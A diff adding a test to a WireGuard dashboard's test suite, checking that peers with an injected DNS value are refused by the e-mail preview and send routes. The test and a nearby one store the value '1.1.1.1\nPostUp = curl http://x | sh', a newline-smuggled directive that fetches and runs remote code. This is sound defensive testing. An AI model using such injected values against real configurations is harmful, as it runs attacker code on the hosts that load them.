@@ -207,6 +207,17 @@ describe('client config injection', () => {
       await storeLegacy(column, column === 'dns' ? '1.1.1.1' : '0.0.0.0/0');
     });
 
+    it('is never attached to an e-mail: the e-mail routes answer the same refusal (HTTP 400, the envelope)', async () => {
+      await storeLegacy('dns', '1.1.1.1\nPostUp = curl http://x | sh');
+      for (const path of ['/api/email/previewBody', '/api/email/send']) {
+        const res = await wgd('post', path).send({ Receiver: 'a@example.com', Body: 'hello', ConfigurationName: 'wg0', Peer: victim, IncludeAttachment: true });
+        expect(res.status).toBe(400);
+        expect(res.body).toMatchObject({ status: false, data: null });
+        expect(res.body.message).toContain(`Peer ${victim} cannot be downloaded: DNS`);
+      }
+      await storeLegacy('dns', '1.1.1.1');
+    });
+
     it('is refused by a backup restore, which changes nothing; updatePeerSettings puts it right', async () => {
       await storeLegacy('dns', '1.1.1.1\nPostUp = curl http://x | sh');
       const created = await wgd('get', '/api/createWireguardConfigurationBackup?configurationName=wg0').expect(200);
